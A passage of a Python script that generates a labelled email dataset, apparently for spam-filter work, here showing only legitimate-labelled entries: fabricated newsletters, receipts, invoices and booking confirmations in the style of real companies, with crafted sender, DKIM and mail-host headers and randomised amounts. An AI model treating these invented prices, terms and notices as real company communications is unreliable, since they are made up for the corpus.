        subject="What's new: Notion Mail, meeting notes in 16 languages, and more", date=d, infra='ses', text=text, html=html, unsub=True)

    # Figma Config
    d = rdate((2026, 3, 1), (2026, 4, 20))
    url = trk('sendgrid')
    text, html = mkt('Figma', '#0d99ff', 'Config 2026 is coming to San Francisco',
                     ['Three days of talks, workshops and launches, June 23-25 at Moscone Center. Early-bird pricing ends April 30.',
                      "Can't make it in person? Register for the free livestream and get keynote replays the same day.",
                      'This year: tracks on design systems at scale, AI in the design workflow, and a whole day for developers.'],
                     'Get your ticket', url, preheader='Early-bird pricing ends April 30.', unsub_url=trk('sendgrid'),
                     footer=['Figma, Inc., 760 Market Street, Floor 10, San Francisco, CA 94102'], variant=0)
    add('ham', 'Figma Config conference early-bird announcement', frm=('Figma', 'announcements@email.figma.com'), to=who('devin'),
        subject='Config 2026: early-bird tickets end April 30', date=d, infra='sendgrid', text=text, html=html, unsub=True)

    # Slack plan change
    d = rdate((2025, 5, 1), (2025, 6, 20))
    text, html = txn('slack', '#4a154b', 'Changes to your Pro plan are coming on July 1',
                     ['Hi Sam,',
                      "We're writing to let you know about upcoming changes to the Pro plan for your workspace, Northfield Studio (northfieldstudio.slack.com).",
                      'Starting July 1, the Pro plan will include AI features like huddle notes, channel recaps and thread summaries. The price per active member will change from $8.75 to $9.25 per month when billed annually.',
                      "Your next renewal is on your current terms. The new price will apply at your first renewal after July 1. You don't need to do anything right now."],
                     cta='Review your plan', url='https://northfieldstudio.slack.com/admin/billing',
                     after=['If you have questions, just reply to this email or visit our Help Center.', '- The team at Slack'],
                     footer=['Slack Technologies, LLC, a Salesforce company. 415 Mission Street, 3rd Floor, San Francisco, CA 94105'],
                     preheader='New AI features included, and a price update at your next renewal.', variant=2, logo_text='slack')
    add('ham', 'Slack workspace billing/plan change notice to admin', frm=('Slack', 'feedback@slack.com'), to=who('sam'),
        subject='Upcoming changes to your Slack Pro plan', date=d, infra='ses', text=text, html=html)

    # Atlassian webinar
    d = rdate((2025, 9, 1), (2026, 5, 1))
    url = trk('sparkpost', 'click.am.atlassian.com')
    text, html = mkt('Atlassian', '#0052cc', 'Live demo: putting Rovo agents to work in Jira',
                     ['Join our product team for a 45-minute live session on how teams are using Rovo agents to triage incoming requests, write release notes and keep Jira boards tidy.',
                      "We'll walk through three real setups, share the prompts behind them, and leave time for your questions.",
                      'Date: Thursday, 11:00 AM PT / 2:00 PM ET. Can\'t attend live? Register anyway and we\'ll send you the recording.'],
                     'Save my seat', url, preheader='Thursday, 11 AM PT. Recording available for all registrants.',
                     unsub_url=trk('sparkpost', 'click.am.atlassian.com'), footer=['Atlassian, 350 Bush Street, Floor 13, San Francisco, CA 94104'], variant=0)
    add('ham', 'Atlassian product webinar invitation', frm=('Atlassian', 'no-reply@am.atlassian.com'), to=who('tom'),
        subject='[Webinar] Live demo: Rovo agents for Jira teams', date=d, infra='sparkpost', text=text, html=html, unsub=True)

    # Zoom
    d = rdate((2025, 2, 1), (2026, 9, 1))
    text, html = mkt('Zoom', '#0b5cff', 'Meet your smarter AI Companion',
                     ['AI Companion is now included at no additional cost with your paid Zoom Workplace plan. It can prep you for meetings, take notes, and turn decisions into tasks.',
                      'Admins can turn features on or off for the whole account from the web portal under Account Settings > AI Companion.'],
                     'Explore AI Companion', trk('aws'), preheader='Included with your plan at no extra cost.',
                     unsub_url=trk('aws'), footer=['Zoom Communications, Inc., 55 Almaden Blvd, 6th Floor, San Jose, CA 95113'], variant=1)
    add('ham', 'Zoom product update about AI Companion', frm=('Zoom', 'info@zoom.us'), to=who('grace'),
        subject='Your Zoom Workplace plan just got an upgrade', date=d, infra='ses', text=text, html=html, unsub=True)

    # Canva
    d = rdate((2025, 4, 10), (2025, 5, 30))
    text, html = mkt('Canva', '#7d2ae8', '7 new things you can do in Canva today',
                     ['1. Turn a rough sketch into a finished layout with Canva AI.', '2. Build interactive charts in Canva Sheets.',
                      '3. Write code-free mini apps with Canva Code.', '4. Remove background noise from video in one click.',
                      '5. Bulk-translate designs into 100+ languages.', '6. Schedule posts to Threads and Bluesky.',
                      '7. Brand Kit controls for Teams, now with approval flows.'],
                     'Try it now', trk('sparkpost', 'engage.canva.com'), preheader='Everything we announced at Canva Create.',
                     unsub_url=trk('sparkpost', 'engage.canva.com'), footer=['Canva, 110 Kippax St, Surry Hills NSW 2010, Australia'], variant=0)
    add('ham', 'Canva feature announcement listicle', frm=('Canva', 'marketing@engage.canva.com'), to=who('ellie'),
        subject='7 new things you can do in Canva (starting today)', date=d, infra='sparkpost', text=text, html=html, unsub=True)

    # Linear changelog (plain, postmark)
    d = rdate()
    text = '''Linear Changelog

Linear Asks, now in Microsoft Teams
Requests posted in Teams channels can now become Linear issues with one click, with the original thread linked back.

Project updates in Slack
Post project updates to a Slack channel automatically every Friday, with a health indicator and the three biggest changes since the last update.

Fixes and improvements
- Sub-issues now inherit the parent's cycle when created from the issue view
- Keyboard shortcut G then I opens your inbox from anywhere
- Fixed a bug where filters on custom views were not saved after renaming
- Faster search results in workspaces with more than 100k issues

Read the full changelog: https://linear.app/changelog

You are receiving this because you subscribed to product updates.
Unsubscribe: https://linear.app/unsubscribe?token=%s
''' % rb64u(24)
    add('ham', 'Linear changelog, plain text only', frm=('Linear', 'changelog@linear.app'), to=who('ana'),
        subject='Changelog: Linear Asks in Teams, project updates in Slack', date=d, infra='postmark', text=text, unsub=True,
        pm_tag='changelog')

    # Vercel Ship
    d = rdate((2025, 6, 1), (2025, 6, 30))
    text, html = mkt('Vercel', '#000000', 'Vercel Ship 2025 is live',
                     ['The keynote starts at 9:30 AM PT. Tune in to see what we have been building: new compute options, AI SDK updates, and a few surprises.',
                      'Sessions will be available on demand right after the stream.'],
                     'Watch the keynote', 'https://vercel.com/ship?utm_source=email&utm_campaign=ship25_live', preheader='Starting at 9:30 AM PT.',
                     unsub_url='https://vercel.com/account/notifications?unsubscribe=marketing', footer=['Vercel Inc., 440 N Barranca Ave #4133, Covina, CA 91723'], variant=1)
    add('ham', 'Vercel conference livestream reminder', frm=('Vercel', 'ship@vercel.com'), to=who('tom'),
        subject='Vercel Ship starts in 1 hour', date=d, infra='ses', text=text, html=html, unsub=True)

    # Datadog webinar (hubspot)
    d = rdate()
    text, html = mkt('Datadog', '#632ca6', 'Webinar: Getting started with LLM Observability',
                     ['Hi Nadia,',
                      'Teams shipping LLM-powered features are running into new questions: Why did latency spike? Which prompts are driving cost? Are responses drifting?',
                      'In this 60-minute session, our solutions engineers will show how to trace LLM chains end to end, set up quality and safety evaluations, and alert on token spend.',
                      'Wednesday at 10:00 AM ET. All registrants get the recording and slides.'],
                     'Register now', trk('hubspot'), preheader='Trace, evaluate and monitor your LLM apps.',
                     unsub_url=trk('hubspot'), footer=['Datadog, Inc., 620 8th Avenue, 45th Floor, New York, NY 10018'], variant=0)
    add('ham', 'Datadog technical webinar invitation via HubSpot', frm=('Datadog Events', 'events@datadoghq.com'), to=who('nadia'),
        subject='Webinar: Getting started with LLM Observability', date=d, infra='hubspot', text=text, html=html, unsub=True,
        hs_host='info.datadoghq.com')

    # HubSpot INBOUND
    d = rdate((2025, 9, 8), (2025, 10, 15))
    text, html = mkt('HubSpot', '#ff5c35', 'INBOUND 2025 replays are live',
                     ['Missed a session? Every keynote and spotlight from INBOUND is now available on demand, free with your HubSpot account.',
                      "Start with the product keynote for everything new in Breeze, then catch the panel on running sales with AI agents."],
                     'Watch the replays', trk('hubspot'), preheader='Keynotes, spotlights and breakouts on demand.', unsub_url=trk('hubspot'),
                     footer=['HubSpot, Inc., 2 Canal Park, Cambridge, MA 02141'], variant=0)
    add('ham', 'HubSpot event replay announcement', frm=('HubSpot', 'hello@hubspot.com'), to=who('raj'),
        subject='🎬 INBOUND replays are ready to watch', date=d, infra='hubspot', text=text, html=html, unsub=True,
        hs_host='info.hubspot.com')

    # Airtable trial ending (mailgun)
    d = rdate()
    text, html = txn('Airtable', '#2d7ff9', 'Your Team trial ends in 3 days',
                     ['Hi Owen,', "Your free trial of Airtable Team for the workspace 'Quill & Pine Ops' ends on %s." % human_date(d + dt.timedelta(days=3)),
                      "After that, the workspace will move to the Free plan. You won't lose any data, but bases over 1,000 records will become read-only and automations will pause."],
                     cta='Upgrade to Team', url='https://airtable.com/upgrade?workspaceId=wsp%s' % rs(14),
                     after=['Questions about pricing? Reply to this email and our team will get back to you.'],
                     footer=['Airtable, 799 Market Street, 8th Floor, San Francisco, CA 94103'], variant=2)
    add('ham', 'Airtable trial expiration notice', frm=('Airtable', 'team@mail.airtable.com'), to=who('owen'),
        subject='Your Airtable trial ends in 3 days', date=d, infra='mailgun', text=text, html=html)

    # 1Password price change
    d = rdate((2025, 1, 10), (2025, 3, 1))
    text = '''Hi Priya,

We're writing to let you know about a change to the price of your 1Password Families membership.

Starting with your next renewal on or after March 27, 2025, 1Password Families will cost $71.88 per year (previously $59.88). Your current billing cycle is not affected.

Over the past year we've added passkey support everywhere, Travel Mode for families, item sharing with anyone, and Watchtower alerts for compromised websites. The new price helps us keep building and keep 1Password secure.

You don't need to do anything. If you'd like to review your plan, sign in at https://my.1password.com/billing.

Thank you for trusting us with your family's passwords.

The 1Password Team

--
AgileBits Inc. dba 1Password, 4711 Yonge St, 10th Floor, Toronto, ON M2N 6K8, Canada
'''
    add('ham', '1Password subscription price change notice, plain text', frm=('1Password', 'hello@1password.com'), to=who('priya'),
        subject='An update to your 1Password Families pricing', date=d, infra='ses', text=text)


# ============================================================================
# HAM 3: receipts, invoices, statements (16)
# ============================================================================
def ham_receipts():
    # Apple receipt
    d = rdate()
    oid = 'M' + rs(9, string.ascii_uppercase + string.digits)
    price = money(0.99, 14.99)
    text, html = txn('Apple', '#000000', 'Receipt',
                     ['APPLE ACCOUNT: jonah@marlowe-home.example', 'DATE: %s' % d.strftime('%b %-d, %Y'), 'ORDER ID: %s' % oid, 'DOCUMENT NO.: 1%s' % rdig(11)],
                     rows=[('iCloud+ with 200 GB (Monthly)', '$%s' % '2.99'), ('Renews %s' % (d + dt.timedelta(days=30)).strftime('%b %-d, %Y'), '')],
                     total=('TOTAL', '$2.99'),
                     after=['Billed to: Visa .... %s' % rdig(4),
                            'If you have questions about your bill, visit Apple Support: https://support.apple.com/billing',
                            'Learn how to manage your subscriptions: https://apps.apple.com/account/subscriptions'],
                     footer=['Apple Media Services Terms and Conditions', 'Apple Inc. One Apple Park Way, Cupertino, CA 95014'])
    add('ham', 'Apple iCloud+ subscription receipt', frm=('Apple', 'no_reply@email.apple.com'), to=who('jonah'),
        subject='Your receipt from Apple.', date=d, infra='postfix', host='rn-mailsvcp-mta-lapp03.rno.apple.com', dkim_dom='email.apple.com',
        selector='email0517', text=text, html=html, dmarc_p='reject')

    # Uber
    d = rdate()
    fare = R.uniform(14, 46)
    text, html = txn('Uber', '#000000', 'Thanks for riding, Maya',
                     ["We hope you enjoyed your ride this %s." % ('evening' if d.hour >= 17 else 'morning' if d.hour < 12 else 'afternoon')],
                     rows=[('Trip fare', '$%.2f' % (fare * 0.78)), ('Booking Fee', '$%.2f' % (fare * 0.12)), ('Tip', '$%.2f' % (fare * 0.1)),
                           ('Payment', 'Visa ••••%s' % rdig(4)), ('Pickup', '%d %s St' % (R.randint(10, 900), pick(['Bleecker', 'Hudson', 'Grand', 'Bedford']))),
                           ('Drop-off', 'JFK Terminal 4')],
                     total=('Total', '$%.2f' % fare), cta='Download PDF', url='https://riders.uber.com/trips/%s' % ruuid(),
                     footer=['Uber Technologies, Inc., 1725 3rd Street, San Francisco, CA 94158'], variant=2)
    add('ham', 'Uber trip receipt', frm=('Uber Receipts', 'noreply@uber.com'), to=who('maya'),
        subject='Your %s %s trip with Uber' % (d.strftime('%A'), 'evening' if d.hour >= 17 else 'morning' if d.hour < 12 else 'afternoon'),
        date=d, infra='sparkpost', text=text, html=html)

    # DoorDash
    d = rdate(hours=(18, 21))
    text, html = txn('DoorDash', '#eb1700', 'Order Confirmation for Priya from Tacos El Gordo',
                     ['Your order is being prepared. Estimated arrival %s.' % (d + dt.timedelta(minutes=38)).strftime('%-I:%M %p')],
                     rows=[('2x Tacos Adobada', '$9.00'), ('1x Quesadilla de Asada', '$11.50'), ('1x Horchata (L)', '$4.25'),
                           ('Subtotal', '$24.75'), ('Delivery Fee', '$0.00 (DashPass)'), ('Service Fee', '$3.71'), ('Dasher Tip', '$5.00')],
                     total=('Total Charged', '$33.46'), cta='Track your order', url='https://www.doordash.com/orders/%s' % ruuid(),
                     footer=['DoorDash, 303 2nd Street, South Tower, Suite 800, San Francisco, CA 94107'])
    add('ham', 'DoorDash order confirmation', frm=('DoorDash', 'no-reply@doordash.com'), to=who('priya'),
        subject='Order Confirmation for Priya from Tacos El Gordo', date=d, infra='sendgrid', text=text, html=html)

    # Amazon order confirm
    d = rdate()
    on = '11%d-%s-%s' % (R.randint(1, 4), rdig(7), rdig(7))
    text, html = txn('amazon', '#ff9900', 'Thanks for your order, Jonah!',
                     ["We'll send a confirmation when your items ship.", 'Order #%s' % on],
                     rows=[('Arriving', (d + dt.timedelta(days=2)).strftime('%A, %B %-d')),
                           ('Ship to', 'Jonah Marlowe, Portland, OR'),
                           ('Anker Nano Power Bank (10K, 30W)', '$29.99'), ('Scotch Heavy Duty Packaging Tape, 6 Rolls', '$17.48')],
                     total=('Order Total', '$51.02'), cta='View or manage order', url='https://www.amazon.com/gp/your-account/order-details?orderID=%s&ref_=pe_%s' % (on, rdig(8)),
                     after=['By placing your order, you agree to Amazon.com\'s Conditions of Use and Privacy Notice.'],
                     footer=['©2025 Amazon.com, Inc. or its affiliates. Amazon and all related marks are trademarks of Amazon.com, Inc. or its affiliates, 410 Terry Avenue N., Seattle, WA 98109.'])
    add('ham', 'Amazon order confirmation', frm=('Amazon.com', 'auto-confirm@amazon.com'), to=who('jonah'),
        subject='Your Amazon.com order #%s' % on, date=d, infra='ses', mailfrom_dom='amazon.com', text=text, html=html)

    # Stripe invoice with PDF from a SaaS
    d = rdate()
    inv = '%s-%04d' % (rHEX(8), R.randint(1, 40))
    pdf = make_pdf(['Invoice', 'Invoice number %s' % inv, 'Date of issue %s' % human_date(d), '', 'Plausible Insights OU',
                    'Västriku tn 2, 50403 Tartu, Estonia', '', 'Bill to: Northfield Studio, sam@northfield-studio.example', '',
                    'Growth plan - 100k monthly pageviews        EUR 19.00', 'Subtotal                                    EUR 19.00',
                    'Total                                       EUR 19.00', 'Amount paid                                 EUR 19.00'],
                   title='Invoice', author='Stripe', producer='Stripe', d=d)
    text, html = txn('Plausible Analytics', '#5850ec', 'Receipt from Plausible Analytics',
                     ['Receipt #%s-%s' % (rdig(4), rdig(4))],
                     rows=[('Amount paid', '€19.00'), ('Date paid', human_date(d, '%b %-d, %Y')), ('Payment method', 'Mastercard - %s' % rdig(4)),
                           ('Growth plan × 1', '€19.00')],
                     total=('Amount charged', '€19.00'),
                     after=['If you have any questions, contact us at hello@plausible.io.',
                            "You're receiving this email because you made a purchase at Plausible Analytics, which partners with Stripe to provide invoicing and payment processing."],
                     footer=['Something wrong with the email? View it in your browser.', 'Powered by Stripe'])
    add('ham', 'Stripe-generated SaaS receipt with PDF invoice attachment', frm=('Plausible Analytics', 'invoice+statements+acct_%s@stripe.com' % rs(16)),
        to=who('sam'), reply_to=('', 'hello@plausible.io'), subject='Your receipt from Plausible Analytics #%s-%s' % (rdig(4), rdig(4)), date=d,
        infra='sendgrid', dkim_dom='stripe.com', text=text, html=html,
        attachments=[attach(pdf, 'application/pdf', 'Invoice-%s.pdf' % inv), attach(make_pdf(['Receipt', 'Amount paid EUR 19.00'], title='Receipt', d=d), 'application/pdf', 'Receipt-%s-%s.pdf' % (rdig(4), rdig(4)))])

    # AWS billing
    d = rdate()
    acct = rdig(12)
    text = '''Greetings from Amazon Web Services,

This e-mail confirms that your latest billing statement is available on the AWS web site. Your account will be charged the following:

Total: $%s

Please see the Bills section of the Billing and Cost Management console at https://console.aws.amazon.com/billing/home#/bills for details.

Account number: %s

Thank you for using Amazon Web Services.

Sincerely,
Amazon Web Services

This message was produced and distributed by Amazon Web Services, Inc., 410 Terry Ave. North, Seattle, WA 98109-5210
''' % (money(40, 900), acct)
    add('ham', 'AWS monthly billing statement notice, plain text', frm=('Amazon Web Services', 'aws-billing@amazon.com'),
        to=P['ops_bluefen'], subject='Amazon Web Services Billing Statement Available [Account: %s]' % acct, date=d, infra='ses',
        mailfrom_dom='amazonses.com', text=text)

    # Google Workspace invoice
    d = rdate()
    amt = money(40, 180)
    pdf = make_pdf(['Google Workspace', 'Invoice', 'Invoice number: %s' % rdig(10), 'Billing ID: %s-%s-%s' % (rdig(4), rdig(4), rdig(4)),
                    'Domain: kestrel-labs.example', 'Summary for %s' % d.strftime('%b %Y'), 'Google Workspace Business Standard', 'Total in USD  $%s' % amt],
                   title='Google Workspace Invoice', author='Google LLC', producer='Google', d=d)
    text = '''Your Google Workspace monthly invoice is available. Please find the PDF document attached at the bottom of this email.

Domain name: kestrel-labs.example
Billing ID: %s-%s-%s
Invoice number: %s
Amount: $%s USD

You can also view your invoice and payment history in the Admin console: https://admin.google.com/ac/billing/accounts

Thank you for choosing Google Workspace.

Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043
You have received this mandatory service announcement to update you about important changes to your Google Workspace account.
''' % (rdig(4), rdig(4), rdig(4), rdig(10), amt)
    add('ham', 'Google Workspace monthly invoice with PDF', frm=('Google Workspace', 'payments-noreply@google.com'), to=who('ana'),
        subject='Google Workspace: Your invoice is available for kestrel-labs.example', date=d, infra='google', text=text,
        attachments=[attach(pdf, 'application/pdf', '%s.pdf' % rdig(10))], dmarc_p='reject')

    # Spotify
    d = rdate()
    text, html = txn('Spotify', '#1db954', 'Your Spotify Premium receipt',
                     ['Thanks for being a Premium Family member.'],
                     rows=[('Date', d.strftime('%d/%m/%Y')), ('Order ID', 'P%s' % rdig(11)), ('Premium Family', '$19.99'), ('Tax', '$1.72'),
                           ('Payment method', 'PayPal')], total=('Total', '$21.71'),
                     after=['You can manage your subscription at https://www.spotify.com/account/subscription/'],
                     footer=['Spotify USA Inc., 150 Greenwich Street, 62nd Floor, New York, NY 10007'], variant=2)
    add('ham', 'Spotify subscription receipt', frm=('Spotify', 'no-reply@spotify.com'), to=who('ellie'),
        subject='Your Spotify Premium receipt', date=d, infra='sparkpost', text=text, html=html)

    # PG&E statement
    d = rdate()
    due = d + dt.timedelta(days=21)
    amt = money(80, 340)
    text, html = txn('PG&E', '#0067b1', 'Your PG&E Energy Statement is ready to view',
                     ['Dear Customer,', 'Your latest PG&E Energy Statement is now available online.'],
                     rows=[('Account ending in', rdig(4)), ('Amount due', '$' + amt), ('Due date', due.strftime('%m/%d/%Y')),
                           ('AutoPay', 'Your payment will be deducted on the due date')],
                     cta='View bill', url=trk('sfmc', 'billpay.pge.com'),
                     after=['Please do not reply to this email. This mailbox is not monitored.',
                            'To ensure delivery, add DoNotReply@billpay.pge.com to your address book.'],
                     footer=['Pacific Gas and Electric Company, 300 Lakeside Drive, Oakland, CA 94612'])
    add('ham', 'PG&E utility bill ready notification', frm=('PG&E', 'DoNotReply@billpay.pge.com'), to=who('nadia'),
        subject='Your PG&E Energy Statement is Ready to View', date=d, infra='sfmc', esp_sub='billpay.pge.com', dkim_dom='billpay.pge.com',
        text=text, html=html)

    # Verizon bill
    d = rdate()
    text, html = txn('verizon', '#cd040b', 'Your bill is ready.',
                     ['Hi Hollis, your %s bill for account ending in %s is ready.' % (d.strftime('%B'), rdig(5))],
                     rows=[('Balance', '$' + money(110, 260)), ('Due', (d + dt.timedelta(days=18)).strftime('%m/%d/%y')),
                           ('Auto Pay', 'Scheduled')],
                     cta='View bill', url=trk('sfmc', 'ecrmemail.verizonwireless.com'),
                     after=['Tip: Paper-free billing and Auto Pay save you $10/month on eligible plans.'],
                     footer=['Verizon, One Verizon Way, Basking Ridge, NJ 07920', 'This is an automated message. Please do not reply.'], variant=2)
    add('ham', 'Verizon wireless bill ready', frm=('Verizon', 'VZWMail@ecrmemail.verizonwireless.com'), to=who('hollis'),
        subject='Your Verizon bill is ready', date=d, infra='sfmc', esp_sub='ecrmemail.verizonwireless.com',
        dkim_dom='ecrmemail.verizonwireless.com', text=None, html=html)

    # Adobe
    d = rdate()
    text, html = txn('Adobe', '#eb1000', 'Thank you for your payment',
                     ['Hi Devin,', "We've received your payment for Creative Cloud All Apps. Your invoice is available in your Adobe account."],
                     rows=[('Invoice number', 'IE%s' % rdig(10)), ('Plan', 'Creative Cloud All Apps (annual, paid monthly)'),
                           ('Amount', '$69.99'), ('Next billing date', (d + dt.timedelta(days=30)).strftime('%b %-d, %Y'))],
                     cta='View invoice', url='https://account.adobe.com/orders/billing-history',
                     footer=['Adobe Inc., 345 Park Avenue, San Jose, CA 95110-2704'])
    add('ham', 'Adobe Creative Cloud payment confirmation', frm=('Adobe', 'message@adobe.com'), to=who('devin'),
        subject='Your Adobe payment receipt', date=d, infra='sparkpost', text=text, html=html)

    # QuickBooks invoice from a freelancer
    d = rdate()
    invn = R.randint(1040, 1090)
    amt = money(900, 4200)
    pdf = make_pdf(['Bellweather Design LLC', 'INVOICE %d' % invn, 'Bill to: Oakmere Consulting', 'Date: %s' % d.strftime('%m/%d/%Y'),
                    'Terms: Net 30', '', 'Brand refresh - phase 2 (illustrations, icon set)', 'Amount due: $%s' % amt],
                   title='Invoice %d' % invn, author='Intuit QuickBooks', producer='QuickBooks Online', d=d)
    text = '''Dear Oakmere Consulting,

Here's your invoice! We appreciate your prompt payment.

Thanks for your business!
Bellweather Design LLC

-------------------------------------------
INVOICE %d DETAILS
Due %s
$%s
-------------------------------------------

Review and pay: https://connect.intuit.com/portal/app/CommerceNetwork/view/scs-v1-%s

Bellweather Design LLC
%d Alder St, Suite 2, Portland, OR 97205
(503) 555-0142

If you receive an email that seems fraudulent, please check with the business owner before paying.
© Intuit, Inc. All rights reserved. Privacy | Security | Terms of Service
''' % (invn, (d + dt.timedelta(days=30)).strftime('%m/%d/%Y'), amt, rhex(48), R.randint(100, 999))
    add('ham', 'Freelancer invoice sent via QuickBooks with PDF', frm=('Bellweather Design LLC', 'quickbooks@notification.intuit.com'),
        to=P['finance_oak'], reply_to=('Bellweather Design LLC', 'studio@bellweatherdesign.com'),
        subject='Invoice %d from Bellweather Design LLC' % invn, date=d, infra='ses', dkim_dom='notification.intuit.com', text=text,
        attachments=[attach(pdf, 'application/pdf', 'Invoice_%d_from_Bellweather_Design_LLC.pdf' % invn)])

    # Telekom German invoice (windows-1252 QP)
    d = rdate()
    betrag = '%s €' % money(25, 65).replace('.', ',')
    pdf = make_pdf(['Telekom Deutschland GmbH', 'Rechnung', 'Kundennummer %s' % rdig(10), 'Rechnungsdatum %s' % d.strftime('%d.%m.%Y'),
                    'MagentaMobil M', 'Rechnungsbetrag %s' % betrag.replace('€', 'EUR')], title='Rechnung', author='Telekom', d=d)
    text = '''Guten Tag Herr Brandt,

Ihre aktuelle Mobilfunk-Rechnung für %s steht für Sie bereit. Die Rechnung finden Sie als PDF im Anhang dieser E-Mail und jederzeit im Kundencenter.

Rechnungsbetrag: %s
Kundennummer: %s
Der Betrag wird am %s von Ihrem Konto abgebucht.

Ihre Rechnung online: https://www.telekom.de/kundencenter/rechnung

Mit freundlichen Grüßen
Ihre Telekom

Telekom Deutschland GmbH, Landgrabenweg 151, 53227 Bonn
Amtsgericht Bonn HRB 59 19, Sitz der Gesellschaft Bonn
Diese E-Mail wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.
''' % (d.strftime('%m/%Y'), betrag, rdig(10), (d + dt.timedelta(days=10)).strftime('%d.%m.%Y'))
    add('ham', 'Deutsche Telekom German mobile invoice with PDF, windows-1252', frm=('Telekom', 'rechnungonline@telekom.de'), to=P['felix'],
        subject='Ihre Telekom Mobilfunk RechnungOnline %s %d' % (DE_MONTHS[d.month - 1], d.year),
        date=d, infra='postfix', host='mailout11.telekom.de', selector='telekom2025', text=text, charset='windows-1252', text_cte='quoted-printable',
        attachments=[attach(pdf, 'application/pdf', 'Rechnung_%s.pdf' % d.strftime('%Y_%m'))], dmarc_p='reject')

    # Steam
    d = rdate()
    game = pick(['Hades II', 'Balatro', 'Hollow Knight: Silksong', 'Stardew Valley', 'Baldur\'s Gate 3'])
    text, html = txn('STEAM', '#171a21', 'Thank you for your recent transaction on Steam.',
                     ['Hello ellie_m,'],
                     rows=[('Account name', 'ellie_m'), ('Invoice', rdig(19)), ('Date issued', d.strftime('%d %b, %Y @ %-I:%M%p')),
                           (game, '$' + money(9, 40)), ('Payment method', 'Steam Wallet')],
                     after=['This email message was auto-generated. Please do not respond.',
                            'If you need additional help, visit Steam Support: https://help.steampowered.com'],
                     footer=['Valve Corporation, PO Box 1688, Bellevue, WA 98009'])
    add('ham', 'Steam game purchase receipt', frm=('Steam', 'noreply@steampowered.com'), to=who('ellie'),
        subject='Thank you for your Steam purchase!', date=d, infra='postfix', host='smtp-07-tuk1.steampowered.com', text=text, html=html, dmarc_p='reject')

    # Blue Bottle (Shopify)
    d = rdate()
    on = R.randint(100000, 199999)
    text, html = txn('Blue Bottle Coffee', '#00a0df', 'Thank you for your purchase!',
                     ["Hi Iris, we're getting your order ready to be shipped. We will notify you when it has been sent."],
                     rows=[('Three Africas (12 oz) × 2', '$44.00'), ('Bella Donovan (12 oz) × 1', '$22.00'), ('Subtotal', '$66.00'),
                           ('Shipping', '$0.00'), ('Taxes', '$0.00')], total=('Total', '$66.00 USD'),
                     cta='View your order', url='https://bluebottlecoffee.com/%s/orders/%s/authenticate?key=%s' % (rdig(8), rhex(32), rhex(32)),
                     after=['If you have any questions, reply to this email or contact us at support@bluebottlecoffee.com'],
                     footer=['Blue Bottle Coffee, 476 9th Street, Oakland, CA 94607'], greeting='Order #BB%d' % on)
    add('ham', 'Shopify store order confirmation (coffee roaster)', frm=('Blue Bottle Coffee', 'orders@bluebottlecoffee.com'), to=who('iris'),
        subject='Order #BB%d confirmed' % on, date=d, infra='sendgrid', dkim_dom='shopifyemail.com', text=text, html=html)

    # Free Mobile (French, ISO-8859-1 8bit)
    d = rdate(off=1)
    text = '''Bonjour Camille Verdier,

Votre facture Free Mobile du mois de %s est disponible dans votre Espace Abonné.

Montant : %s euros TTC
Identifiant : %s
Ligne : 06 %s %s %s %s

Le montant sera prélevé sur votre compte bancaire à partir du %s.

Pour consulter le détail de votre facture, connectez-vous à votre Espace Abonné :
https://mobile.free.fr/account/

Cordialement,
L'équipe Free Mobile

--
Free Mobile - SAS au capital de 365 138 779 euros - RCS Paris 499 247 138
Siège social : 16 rue de la Ville l'Évêque, 75008 Paris
''' % (pick(['janvier', 'février', 'mars', 'avril', 'mai', 'juin', 'juillet', 'septembre', 'octobre']), money(10, 20).replace('.', ','), rdig(8),
       rdig(2), rdig(2), rdig(2), rdig(2), (d + dt.timedelta(days=5)).strftime('%d/%m/%Y'))
    add('ham', 'Free Mobile French invoice notice, ISO-8859-1 8bit', frm=('Free Mobile', 'freemobile@free-mobile.fr'), to=P['camille'],
        subject='Votre facture Free Mobile est disponible', date=d, infra='postfix', host='smtp-out.free-mobile.fr', text=text,
        charset='iso-8859-1', text_cte='8bit', hcs='iso-8859-1', dmarc_p='quarantine')


# ============================================================================
# HAM 4: travel bookings (8)
# ============================================================================
def ham_travel():
    # Booking.com
    d = rdate()
    ci = d + dt.timedelta(days=R.randint(20, 60))
    conf = rdig(10)
    pin = rdig(4)
    text, html = txn('Booking.com', '#003580', 'Your booking in Lisbon is confirmed',
                     ['Thanks, Priya! Your booking at Hotel Alma Lisboa is confirmed.',
                      'Hotel Alma Lisboa is expecting you on %s.' % ci.strftime('%A, %B %-d, %Y')],
                     rows=[('Confirmation number', conf), ('PIN code', pin), ('Check-in', ci.strftime('%a %-d %b %Y') + ' (from 15:00)'),
                           ('Check-out', (ci + dt.timedelta(days=4)).strftime('%a %-d %b %Y') + ' (until 11:00)'),
                           ('Your reservation', '4 nights, 1 room'), ('Room', 'Superior Double Room with City View')],
                     total=('Price', '€ 742.80'),
                     after=['Free cancellation until %s 23:59 [Europe/Lisbon].' % (ci - dt.timedelta(days=3)).strftime('%-d %B %Y'),
                            'You will pay at the property. The property handles payments in EUR.'],
                     cta='Manage your booking', url='https://secure.booking.com/myreservations.html?bn=%s&pincode=%s&aid=304142&lang=en-us' % (conf, pin),
                     footer=['Booking.com B.V., Oosterdokskade 163, 1011 DL Amsterdam, Netherlands'])
    add('ham', 'Booking.com hotel reservation confirmation', frm=('Booking.com', 'noreply@booking.com'), to=who('priya'),
        subject='Your booking is confirmed at Hotel Alma Lisboa', date=d, infra='postfix', host='mailout-202-r3.booking.com',
        selector='bk', text=text, html=html, dmarc_p='reject')

    # Airbnb
    d = rdate()
    ci = d + dt.timedelta(days=R.randint(14, 45))
    code = 'HM' + rs(8, string.ascii_uppercase + string.digits)
    text, html = txn('airbnb', '#ff385c', 'Reservation confirmed',
                     ['Pack your bags! You\'re going to Asheville.', 'Your host, Dolores, has been notified of your reservation.'],
                     rows=[('Check-in', ci.strftime('%a, %b %-d') + ', 4:00 PM'), ('Checkout', (ci + dt.timedelta(days=3)).strftime('%a, %b %-d') + ', 11:00 AM'),
                           ('Guests', '4 adults'), ('Confirmation code', code), ('Total (USD)', '$%s' % money(700, 1200))],
                     cta='View itinerary', url='https://www.airbnb.com/trips/v1/reservation-details/ro/RESERVATION2_CHECKIN/%s' % code,
                     after=['Directions and the door code will be available in your itinerary 48 hours before check-in.'],
                     footer=['Airbnb, Inc., 888 Brannan St, San Francisco, CA 94103'])
    add('ham', 'Airbnb reservation confirmation', frm=('Airbnb', 'automated@airbnb.com'), to=who('jonah'),
        subject='Reservation confirmed for Asheville', date=d, infra='sendgrid', text=text, html=html)

    # Delta receipt
    d = rdate()
